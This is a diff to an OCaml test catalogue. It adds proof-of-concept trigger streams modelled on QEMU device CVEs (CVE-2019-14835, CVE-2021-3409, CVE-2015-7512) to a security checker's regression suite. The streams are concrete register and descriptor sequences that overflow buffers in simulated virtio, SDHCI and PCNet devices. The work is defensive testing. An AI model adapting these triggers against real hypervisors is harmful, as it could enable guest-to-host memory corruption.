@@ -378,6 +378,152 @@ let cve_2016_1568 =
         else []);
   }
 
+(* ------------------------------------------------------------------ *)
+(* Virtio ring: CVE-2019-14835 analog                                  *)
+
+let virtio_setup m =
+  let d = Workload.Virtio_driver.create m in
+  ignore (Workload.Virtio_driver.init d);
+  ignore (Workload.Virtio_driver.send d [ Bytes.make 128 'v' ]);
+  ignore (Workload.Virtio_driver.poll_used d);
+  ignore (Workload.Virtio_driver.isr_ack d)
+
+let cve_2019_14835 =
+  {
+    cve = "CVE-2019-14835";
+    device = Devices.Virtio_ring.name;
+    qemu_version = Devices.Qemu_version.v 4 0 0;
+    fixed_in = Devices.Virtio_ring.cve_2019_14835_fixed_in;
+    expected = [ Sedspec.Checker.Parameter_check ];
+    detectable = true;
+    description =
+      "descriptor length never bounded against the staging buffer: a 1536-byte chain overflows the 1024-byte vq_buf";
+    setup = virtio_setup;
+    run =
+      (fun m ->
+        let d = Workload.Virtio_driver.create m in
+        if not (Workload.Virtio_driver.init d) then raise Exit;
+        (* One oversized guest-readable descriptor: cur_len + d_len runs
+           past the staging buffer, like the vhost overflow. *)
+        Workload.Virtio_driver.write_desc d 0
+          ~addr:Workload.Virtio_driver.data_bufs
+          ~len:(Devices.Virtio_ring.buf_size + 512)
+          ~flags:0 ~next:0;
+        ignore (Workload.Virtio_driver.publish d 0));
+    ground_check = (fun _ -> []);
+  }
+
+(* ------------------------------------------------------------------ *)
+(* Locator-grown candidate attacks.
+
+   The cross-version deviation locator (the locate tool) mutates the
+   catalogued exploit streams and minimizes any input whose protected
+   replay diverges across a CVE's version pair.  The two entries below
+   are such grown witnesses promoted to catalogue entries: each
+   reproduces its parent CVE's defect through a register stream distinct
+   from the hand-written PoC, directly from machine boot (no setup
+   traffic), so the protected-replay loops pin them as regressions. *)
+
+let grown_step m ~device ~handler params =
+  try ignore (Vmm.Machine.inject m ~device ~handler ~params) with Exit -> ()
+
+let grown_hex s =
+  let n = String.length s / 2 in
+  Bytes.init n (fun i -> Char.chr (int_of_string ("0x" ^ String.sub s (2 * i) 2)))
+
+(* locate --cve CVE-2021-3409 --seed 21: the shrink-mid-transfer trigger
+   with the FIFO one byte past the shrunken block size, so the very next
+   buffer-data store computes tx_remaining = 64 - 65 and wraps. *)
+let grown_2021_3409 =
+  let wreg m off data =
+    grown_step m ~device:Devices.Sdhci.name ~handler:"mmio_write"
+      [
+        ("addr", Int64.add Devices.Sdhci.mmio_base (Int64.of_int off));
+        ("offset", Int64.of_int off);
+        ("size", 4L);
+        ("data", data);
+      ]
+  in
+  {
+    cve = "GROWN-2021-3409";
+    device = Devices.Sdhci.name;
+    qemu_version = Devices.Qemu_version.v 5 2 0;
+    fixed_in = Devices.Sdhci.cve_2021_3409_fixed_in;
+    expected = [ Sedspec.Checker.Parameter_check ];
+    detectable = true;
+    description =
+      "locator-grown 69-step stream: blksize shrunk one byte short of the FIFO fill wraps tx_remaining";
+    setup = (fun _ -> ());
+    run =
+      (fun m ->
+        wreg m 0xe 0x700L;
+        wreg m 0x4 0x200L;
+        wreg m 0xe 0x1800L;
+        for _ = 1 to 44 do
+          wreg m 0x20 0x66L
+        done;
+        for _ = 1 to 20 do
+          wreg m 0x20 0x55L
+        done;
+        wreg m 0x4 0x40L;
+        wreg m 0x20 0x66L);
+    ground_check =
+      (fun m ->
+        (* The wrapped subtraction leaves a ~2^32 residual where the
+           patched model keeps tx_remaining below one block. *)
+        let arena = Interp.arena (Vmm.Machine.interp_of m Devices.Sdhci.name) in
+        if Int64.compare (Devir.Arena.get arena "tx_remaining") 0xFFFFL > 0 then
+          [ "tx_remaining-underflow" ]
+        else []);
+  }
+
+(* locate --cve CVE-2015-7512 --seed 11: raw CSR pokes stand in for the
+   driver — an init block at 0x1004, three OWNed descriptors whose chained
+   un-ENP'd fragments overrun the 4096-byte frame buffer and reach the
+   irq pointer (wild jump on the unpatched model). *)
+let grown_2015_7512 =
+  let wcsr m off data =
+    grown_step m ~device:Devices.Pcnet.name ~handler:"write"
+      [
+        ("addr", Int64.add Devices.Pcnet.io_base (Int64.of_int off));
+        ("offset", Int64.of_int off);
+        ("size", 2L);
+        ("data", data);
+      ]
+  in
+  {
+    cve = "GROWN-2015-7512";
+    device = Devices.Pcnet.name;
+    qemu_version = Devices.Qemu_version.v 2 4 0;
+    fixed_in = Devices.Pcnet.cve_2015_750x_fixed_in;
+    (* The overrun clobbers the irq pointer, so the stream both exceeds
+       the parameter envelope and lands a wild indirect jump. *)
+    expected =
+      [ Sedspec.Checker.Parameter_check; Sedspec.Checker.Indirect_jump_check ];
+    detectable = true;
+    description =
+      "locator-grown raw-CSR stream: three OWNed un-ENP'd descriptors overrun the frame buffer into the irq pointer";
+    setup = (fun _ -> ());
+    run =
+      (fun m ->
+        let g = Vmm.Machine.ram m in
+        Vmm.Guest_mem.blit_in g 0x1004L
+          (grown_hex "00200000003000000800000008000000");
+        wcsr m 0x12 0x1L;
+        wcsr m 0x10 0x1000L;
+        wcsr m 0x12 0x0L;
+        wcsr m 0x10 0x1L;
+        wcsr m 0x10 0x42L;
+        Vmm.Guest_mem.blit_in g 0x3000L
+          (grown_hex "0000040000000080ee05000000000000");
+        Vmm.Guest_mem.blit_in g 0x3010L
+          (grown_hex "0010040000000080ee05000000000000");
+        Vmm.Guest_mem.blit_in g 0x3020L
+          (grown_hex "0020040000000081ee05000000000000");
+        wcsr m 0x10 0x48L);
+    ground_check = (fun _ -> []);
+  }
+
 let all =
   [
     venom;
@@ -389,6 +535,9 @@ let all =
     cve_2015_5158;
     cve_2016_4439;
     cve_2016_1568;
+    cve_2019_14835;
+    grown_2021_3409;
+    grown_2015_7512;
   ]
 
 let find cve = List.find (fun a -> a.cve = cve) all
